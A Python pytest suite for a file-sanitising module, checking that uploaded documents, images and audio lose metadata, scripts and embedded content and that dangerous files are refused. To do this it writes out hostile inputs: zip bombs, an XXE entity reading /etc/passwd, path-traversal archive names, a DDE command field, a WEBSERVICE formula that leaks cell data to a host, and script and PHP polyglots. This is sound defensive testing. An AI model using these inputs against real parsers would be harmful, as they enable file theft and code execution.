"""What becomes of real files: judged by content, refused with a reason, or made anew without what they tell."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from PIL import Image

from consult.files.cleaning import clean
from consult.files.kinds import Kind, Refused, Removed, Why
from tests.support import files
from tests.support.files import CANARY, everything_in

MADE: dict[Kind, Callable[[], bytes]] = {
    Kind.PDF: files.pdf,
    Kind.DOCX: files.docx,
    Kind.ODT: files.odt,
    Kind.XLSX: files.xlsx,
    Kind.PNG: files.png,
    Kind.JPEG: files.jpeg,
    Kind.MP3: files.mp3,
    Kind.M4A: files.m4a,
    Kind.OGG: files.ogg,
}


@pytest.mark.parametrize("kind", list(Kind))
def test_nothing_that_a_file_tells_beside_what_it_shows_is_kept(kind: Kind) -> None:
    source = MADE[kind]()
    assert CANARY.encode() in everything_in(source)
    made, found, removed = clean(source)
    assert found == kind
    assert removed
    assert CANARY.encode() not in everything_in(made)
    assert clean(source)[0] == made, "the same file gives the same bytes"
    again, _kind, left = clean(made)
    assert not set(left) - {Removed.TIMES}, "cleaning what is clean finds nothing"
    if kind not in {Kind.JPEG, Kind.DOCX, Kind.ODT}:  # drawn anew, a photograph is never quite the same
        assert len(again) == len(made)


def test_a_photograph_keeps_no_place_and_stands_upright() -> None:
    made, _kind, removed = clean(files.jpeg(40, 30))
    assert {Removed.PLACE, Removed.DEVICE, Removed.AUTHOR, Removed.TIMES} <= set(removed)
    with Image.open(io.BytesIO(made)) as image:
        assert image.size == (30, 40)
        assert not image.getexif()
        assert not image.info.get("comment")


def test_office_files_keep_their_words_comments_and_changes() -> None:
    made = everything_in(clean(files.docx())[0])
    for words in (b"The words stay.", b"An insertion stays.", b"A comment stays.", b"<w:ins ", b"https://example.org/"):
        assert words in made
    assert b"printerSettings" not in made
    assert b"docProps" not in made
    assert b"people.xml" not in made
    sheet = everything_in(clean(files.xlsx())[0])
    assert b"A remark stays." in sheet
    assert b"SUM(A1:A2)" in sheet
    text = everything_in(clean(files.odt())[0])
    assert b"The words stay." in text
    assert b"A comment stays." in text
    with zipfile.ZipFile(io.BytesIO(clean(files.odt())[0])) as archive:
        assert archive.namelist()[0] == "mimetype"
        assert archive.getinfo("mimetype").compress_type == zipfile.ZIP_STORED


def test_a_pdf_loses_scripts_attachments_and_what_its_photographs_tell() -> None:
    made, _kind, removed = clean(files.pdf(acts=True))
    assert {Removed.SCRIPTS, Removed.EMBEDDED, Removed.AUTHOR, Removed.REVIEWERS} <= set(removed)
    held = everything_in(made)
    for gone in (b"JavaScript", b"Launch", b"EmbeddedFile", CANARY.encode()):
        assert gone not in held
    with pikepdf.open(io.BytesIO(made)) as pdf:
        assert len(pdf.pages) == 1
        assert "/Info" not in pdf.trailer
        assert str(pdf.pages[0].Annots[0].Contents) == "A note"


def refused(content: bytes) -> Why:
    """Why a file is refused."""
    with pytest.raises(Refused) as error:
        clean(content)
    return error.value.why


def test_what_is_not_taken_whatever_it_is_called() -> None:
    for content in (b"GIF89a" + bytes(50), b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"<html></html>", b"MZ" + bytes(99),
                    files.wav(), b"plain words", files.archive({"a.txt": "x"}), b"\x1f\x8b" + bytes(40)):  # fmt: skip
        assert refused(content) is Why.UNKNOWN
    assert refused(b"") is Why.EMPTY
    assert refused(b"  \n" + files.pdf()) is Why.UNKNOWN


@pytest.mark.parametrize("kind", [Kind.PDF, Kind.DOCX, Kind.ODT, Kind.XLSX, Kind.PNG, Kind.JPEG, Kind.M4A, Kind.OGG])
def test_wrong_length_a_file_that_is_cut_off_is_refused(kind: Kind) -> None:
    whole = MADE[kind]()
    assert refused(whole[: len(whole) * 2 // 3]) is Why.DAMAGED


@pytest.mark.parametrize("name", ["[Content_Types].xml", "word/document.xml"])
def test_an_archive_whose_directory_is_whole_and_whose_bytes_are_not_is_refused(name: str) -> None:
    whole = files.docx()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        entry = archive.getinfo(name)
    stream = bytearray(whole)
    stream[entry.header_offset + 30 + len(name)] = 0b111  # a last block of the kind that deflate does not have
    assert refused(bytes(stream)) is Why.DAMAGED
    wrong = whole.replace(entry.CRC.to_bytes(4, "little"), (entry.CRC ^ 1).to_bytes(4, "little"))
    assert refused(wrong) is Why.DAMAGED


def test_zip_bombs_are_refused_before_they_are_unpacked() -> None:
    assert refused(files.docx({"word/big.xml": b"<a>" + b"x" * 90_000_000 + b"</a>"})) is Why.BOMB
    assert refused(files.docx({"word/big.xml": b" " * 5_000_000})) is Why.BOMB
    assert refused(files.docx({f"word/x{n}.xml": "<a/>" for n in range(4_000)})) is Why.BOMB
    assert refused(files.docx({"word/inner.zip": files.archive({"a": "b"})})) is Why.EMBEDDED
    deep = "<a>" * 500 + "</a>" * 500
    assert refused(files.docx({"word/deep.xml": deep})) is Why.BOMB
    entities = '<!DOCTYPE a [<!ENTITY b "bbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    assert refused(files.docx({"word/entities.xml": entities})) is Why.BOMB
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    assert refused(files.docx({"word/outside.xml": outside})) is Why.BOMB


def test_entries_whose_names_lead_out_of_the_archive_are_refused() -> None:
    for name in ("../../etc/cron.d/x.xml", "/etc/x.xml", "word\\..\\x.xml", "WORD/DOCUMENT.XML"):
        assert refused(files.docx({name: "<a/>"})) is Why.DAMAGED


def test_polyglots_are_made_anew_or_refused() -> None:
    for content in (files.jpeg(after=files.archive({"x.html": "<script>"})), files.png(after=b"<?php echo 1; ?>"),
                    files.pdf() + files.archive({"a": "<script>"})):  # fmt: skip
        made, _kind, removed = clean(content)
        assert b"<script>" not in everything_in(made)
        assert b"<?php" not in made
        assert Removed.HIDDEN in removed
    assert refused(files.mp3(after=b"\0" * 300_000)) is Why.TWO_KINDS
    assert b"<html>" not in clean(files.mp3(after=b"<html>"))[0]
    assert refused(b"%!x\n" + files.pdf()) is Why.UNKNOWN


def test_files_with_a_password_or_of_an_old_format_are_refused() -> None:
    assert refused(files.pdf(password="secret")) is Why.ENCRYPTED
    assert refused(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)) is Why.ENCRYPTED
    locked = files.odt(
        {
            "META-INF/manifest.xml": '<m:manifest xmlns:m="x"><m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
        }
    )
    assert refused(locked) is Why.ENCRYPTED


def test_macros_and_what_is_embedded_or_loaded_from_elsewhere_are_refused() -> None:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert refused(files.docx(main=macro)) is Why.MACROS
    assert refused(files.docx({"word/vbaProject.bin": b"x"})) is Why.MACROS
    assert refused(files.odt({"Basic/Standard/x.xml": "<a/>"})) is Why.MACROS
    assert refused(files.docx({"word/embeddings/oleObject1.bin": b"x"})) is Why.EMBEDDED
    assert refused(files.docx({"word/page.html": "<html/>"})) is Why.EMBEDDED
    assert refused(files.docx(rels=(("rId9", "image", "https://example.org/pixel.png", True),))) is Why.EXTERNAL
    assert refused(files.docx(rels=(("rId9", "oleObject", "file://host/share", True),))) is Why.EXTERNAL
    field = "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p><w:p/>"
    assert refused(files.docx(body=field)) is Why.EXTERNAL
    assert refused(files.xlsx(formula='WEBSERVICE("https://example.org/?" &amp; A1)')) is Why.EXTERNAL
    assert refused(files.xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"})) is Why.EXTERNAL
    assert refused(files.odt(body='<draw:image xlink:href="https://example.org/a.png"/>')) is Why.EXTERNAL


def test_a_picture_with_too_many_pixels_is_refused_and_a_large_photograph_made_smaller() -> None:
    out = io.BytesIO()
    Image.new("1", (29_000, 29_000)).save(out, "PNG")
    assert refused(out.getvalue()) is Why.TOO_MANY_PIXELS
    out = io.BytesIO()
    Image.new("RGB", (6_400, 4_000)).save(out, "JPEG", quality=20)
    made, _kind, removed = clean(out.getvalue())
    assert Removed.RESOLUTION in removed
    with Image.open(io.BytesIO(made)) as image:
        assert image.size == (3_200, 2_000)


def test_a_film_is_refused_and_a_recording_keeps_no_place() -> None:
    assert refused(files.m4a(handler=b"vide")) is Why.VIDEO
    made, _kind, removed = clean(files.m4a())
    assert {Removed.PLACE, Removed.TIMES} <= set(removed)
    assert b"115.0" not in made
    assert len(made) == len(files.m4a()), "what goes becomes empty space, so that the sound stays where it was"


def test_pictures_inside_office_files_are_drawn_anew_and_drawings_left_out() -> None:
    made, _kind, removed = clean(files.docx({"word/media/image2.emf": CANARY.encode()}))
    assert {Removed.PLACE, Removed.DRAWINGS} <= set(removed)
    assert CANARY.encode() not in everything_in(made)
